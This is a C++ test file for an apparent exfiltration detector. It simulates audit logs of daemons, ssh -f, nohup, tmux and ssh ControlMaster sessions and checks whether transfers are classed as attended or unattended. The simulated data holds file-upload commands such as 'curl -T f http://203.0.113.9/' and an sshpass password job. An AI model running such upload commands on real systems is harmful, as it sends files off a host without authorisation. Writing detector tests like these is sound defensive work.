#include "host_with_cron.hpp"

/// Programs that a person starts on a terminal and that leave it without another execve: daemon(3),
/// ssh -f, a terminal that is hung up.
namespace auexfil::test {
namespace {

constexpr int kShell = 502;
constexpr int kTool = 510;
const char* const kAttended = "attended interactive-shell";
const char* const kLeft = "unattended interactive-shell detached";

/// Its parent is gone.
void orphan(Log& log, int pid) {
  log.who(pid).ppid = 1;
}

/// A person's shell, in a log that would show who binds a control socket.
void log_in(CronHost& log) {
  log.call(CronHost::kSshd, "bind", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/s")});
  log.person(CronHost::kSshd, kShell - 2, 5);
}

void typed(CronHost& log) {
  log_in(log);
  log.run(kShell, kTool, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
}

void send(Log& log, int pid) {
  log.send(pid, 3, 150);
  log.send(pid, 3, 65536);
}

void connect_and_send(Log& log, int pid) {
  log.tcp(pid, 3, kDrop, 80);
  send(log, pid);
  log.close(pid, 3);
  log.exit(pid);
}

void send_for_long(Log& log, int pid) {
  send(log, pid);
  log.pass(120'000);
  send(log, pid);
  log.close(pid, 3);
}

/// The tool goes on as 511, without a terminal and without its parent.
void fork_off(Log& log) {
  log.fork(kTool, 511);
  log.setsid(511);
  log.exit(kTool);
  orphan(log, 511);
}

/// The shell is gone with the terminal.
void hang_up(Log& log) {
  log.exit(kShell);
  log.who(kTool).tty = "(none)";
  orphan(log, kTool);
}

struct Story {
  const char* name;
  void (*tell)(CronHost& log);
  const char* signs;
};

const std::vector<Story> kStories = {
    {"forks twice, as daemons do",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       log.fork(511, 512);
       log.exit(511);
       orphan(log, 512);
       log.exit(kTool);
       connect_and_send(log, 512);
     },
     kLeft},
    {"forks once",
     [](CronHost& log) {
       fork_off(log);
       connect_and_send(log, 511);
     },
     kLeft},
    {"connects, asks for a password, and forks off for long (ssh -f)",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       fork_off(log);
       send_for_long(log, 511);
     },
     kLeft},
    {"the same, for a moment",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       fork_off(log);
       send(log, 511);
       log.close(511, 3);
     },
     kAttended},
    {"a daemon's workers",
     [](CronHost& log) {
       fork_off(log);
       log.close(511, 9);
       log.fork(511, 512);
       connect_and_send(log, 512);
     },
     kLeft},
    {"the terminal is hung up, and nohup goes on",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       hang_up(log);
       send_for_long(log, kTool);
     },
     kLeft},
    {"the same, of a helper that the tool has started",
     [](CronHost& log) {
       const int helper = log.run(kTool, 511, "/usr/bin/curl", {"curl", "-T", "g", "http://h/"});
       log.tcp(helper, 3, kDrop, 80);
       send(log, helper);
       hang_up(log);
       log.who(helper).tty = "(none)";
       log.close(kTool, 9);
       send_for_long(log, helper);
     },
     kLeft},
    {"forks off, and sends by sendmmsg alone",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       fork_off(log);
       log.call(511, "sendmmsg", 1024, {3, 0x7f, 1024});
       log.pass(120'000);
       log.call(511, "sendmmsg", 1024, {3, 0x7f, 1024});
       log.close(511, 3);
     },
     kLeft},
    {"a helper that forks off writes a number somewhere; who stays sends",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       log.fork(511, 512);
       log.exit(511);
       orphan(log, 512);
       log.write(512, 7, 4);
       connect_and_send(log, kTool);
     },
     kAttended},
    {"the terminal is hung up, and a last word goes out",
     [](CronHost& log) {
       log.tcp(kTool, 3, kDrop, 80);
       send(log, kTool);
       hang_up(log);
       log.send(kTool, 3, 60);
       log.close(kTool, 3);
     },
     kAttended},
    {"a child without a terminal works for its parent, which has one",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.setsid(511);
       connect_and_send(log, 511);
     },
     kAttended},
    {"orphaned, on its terminal: ( … & ) of a shell",
     [](CronHost& log) {
       log.fork(kTool, 511);
       log.exit(kTool);
       orphan(log, 511);
       connect_and_send(log, 511);
     },
     kAttended},
};

}  // namespace

TEST_CASE("daemons: who leaves the terminal that a person started it on is set apart") {
  for (const Story& story : kStories) {
    INFO(story.name);
    CronHost log;
    typed(log);
    story.tell(log);
    CHECK(signs_of(one(log)) == story.signs);
  }
}

TEST_CASE("daemons: where no rule asks for forks, a person is not called a robot") {
  for (const Story& story : kStories) {
    if (std::string_view(story.signs) == kLeft) {
      continue;
    }
    INFO(story.name);
    CronHost log("", [](const Called& call) {
      return call.name != "clone" && call.name != "setsid" && call.name != "exit_group";
    });
    typed(log);
    story.tell(log);
    const std::vector<facts::Fact> facts = tell(log);
    CHECK_FALSE(facts.empty());
    for (const facts::Fact& fact : facts) {
      CHECK(fact.automation != transfer::Verdict::unattended);
    }
  }
}

TEST_CASE("daemons: in tmux, whose server has left a terminal of its own") {
  const bool leaves = GENERATE(true, false);
  CAPTURE(leaves);
  CronHost log;
  log_in(log);
  log.run(kShell, 600, "/usr/bin/tmux", {"tmux"});
  log.fork(600, 601);
  log.setsid(601);
  log.exit(600);
  orphan(log, 601);
  log.close(601, 9);
  log.fork(601, 602);
  log.who(602).tty = "pts5";
  log.exec(602, "/usr/bin/bash", {"-bash"});
  log.run(602, kTool, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.fork(kTool, 511);
  log.setsid(511);
  if (leaves) {
    log.exit(kTool);
    orphan(log, 511);
  }
  connect_and_send(log, 511);
  CHECK(signs_of(one(log)) == (leaves ? kLeft : kAttended));
}

TEST_CASE("daemons: ssh that goes on as a master of its own (ControlPersist) is whose it was") {
  CronHost log;
  log_in(log);
  log.run(kShell, kTool, "/usr/bin/ssh", {"ssh", kDrop});
  log.tcp(kTool, 3, kDrop, 22);
  send(log, kTool);
  log.call(kTool, "socket", 4, {1, 1, 0});
  log.call(kTool, "bind", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m.aB12")});
  log.fork(kTool, 511);
  log.setsid(511);
  log.fork(511, 512);
  log.exit(511);
  orphan(log, 512);
  log.call(kTool, "socket", 5, {1, 1, 0});
  log.call(kTool, "connect", 0, {5, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m")});
  send(log, 512);
  log.pass(600'000);
  log.send(512, 3, 300'000);
  log.close(512, 3);
  CHECK(signs_of(one(log)) == kAttended);
}

TEST_CASE("daemons: a master of ssh that somebody on a terminal shares is theirs") {
  enum class Client { none, person, robot, both };
  const Client client = GENERATE(Client::none, Client::person, Client::robot, Client::both);
  CAPTURE(client);
  CronHost log;
  log_in(log);
  log.run(kShell, kTool, "/usr/bin/ssh", {"ssh", "-fNM", "-S", "/run/m", kDrop});
  log.tcp(kTool, 3, kDrop, 22);
  send(log, kTool);
  fork_off(log);
  log.call(511, "socket", 4, {1, 1, 0});
  log.call(511, "bind", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m")});
  send(log, 511);
  const auto use = [&](int scp) {
    log.run(scp, scp + 1, "/usr/bin/ssh", CronHost::sftp_argv("h"));
    log.call(scp + 1, "socket", 4, {1, 1, 0});
    log.call(scp + 1, "connect", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/m")});
  };
  if (client == Client::person || client == Client::both) {
    use(log.run(kShell, 520, "/usr/bin/scp", {"scp", "-o", "ControlPath=/run/m", "f", "h:"}));
  }
  if (client == Client::robot || client == Client::both) {
    const int job = log.job("sshpass -p x scp f h:");
    log.who(job).tty = "pts9";  // sshpass makes one
    use(log.run(job, 530, "/usr/bin/scp", {"scp", "-o", "ControlPath=/run/m", "f", "h:"}));
  }
  log.pass(120'000);
  log.send(511, 3, 300'000);
  log.close(511, 3);
  CHECK(signs_of(one(log)) == (client == Client::person ? kAttended : kLeft));
}

TEST_CASE("daemons: where nobody can tell whether a person uses it, it is not known") {
  const bool is_tool = GENERATE(true, false);
  CAPTURE(is_tool);
  CronHost log;
  log.person(CronHost::kSshd, kShell - 2, 5);
  const std::string exe = is_tool ? "/usr/bin/ssh" : "/usr/lib/firefox/firefox";
  log.run(kShell, kTool, exe, {exe, kDrop});
  fork_off(log);
  if (!is_tool) {
    log.call(511, "bind", 0, {4, 0x7f, 110}, {"SOCKADDR saddr=" + unix_saddr("/run/s")});
  }
  connect_and_send(log, 511);
  CHECK(signs_of(one(log)) == "unknown interactive-shell detached");
}

}  // namespace auexfil::test
